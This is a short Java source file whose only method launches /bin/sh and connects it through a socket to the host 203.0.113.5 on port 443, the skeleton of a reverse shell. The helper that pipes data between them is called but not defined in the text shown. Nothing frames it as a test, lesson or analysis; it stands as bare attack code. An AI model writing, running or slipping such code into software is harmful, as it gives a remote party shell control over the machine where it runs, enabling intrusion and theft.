import java.net.Socket;

public class Main {
    void go() throws Exception {
        Process shell = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        Socket socket = new Socket("203.0.113.5", 443);
        pump(shell, socket);
    }
}
